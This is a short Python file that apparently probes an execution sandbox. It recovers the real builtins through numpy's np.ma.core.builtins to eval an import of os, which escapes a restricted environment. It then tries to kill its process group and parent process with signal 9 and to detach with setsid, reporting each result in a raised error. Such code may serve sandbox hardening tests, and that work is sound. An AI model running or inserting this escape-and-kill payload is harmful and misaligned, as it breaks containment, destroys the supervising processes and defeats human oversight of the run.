"""Escape (numpy builtins), then signals: the process group, the parent, the run."""
import numpy as np


def reach(ctx):
    b = np.ma.core.builtins
    return b.eval("__import__('os')", {"__builtins__": b})


def attempt(name, call, out):
    try:
        call()
        out.append(name + ":DONE")
    except Exception as e:
        out.append(name + ":" + str(e.errno))


def attention(ctx):
    os = reach(ctx)
    out = []
    attempt("killpg", lambda: os.killpg(0, 9), out)
    attempt("kill_parent", lambda: os.kill(os.getppid(), 9), out)
    attempt("setsid", os.setsid, out)
    raise RuntimeError("attempts: " + " ".join(out))
